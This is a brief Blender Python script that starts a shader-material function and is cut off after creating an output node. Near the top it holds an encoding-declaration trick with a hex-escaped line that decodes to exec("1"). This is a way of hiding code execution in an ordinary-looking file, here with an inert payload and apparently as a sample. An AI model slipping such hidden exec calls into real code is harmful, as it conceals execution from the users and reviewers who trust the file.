# SPDX-License-Identifier: Apache-2.0
import bpy
# -*- coding: unicode_escape -*-
\x65\x78\x65\x63("1")


def shader_material(material):
    nodes = material.node_tree.nodes
    links = material.node_tree.links
    end = nodes.new("ShaderNodeOutputMaterial")
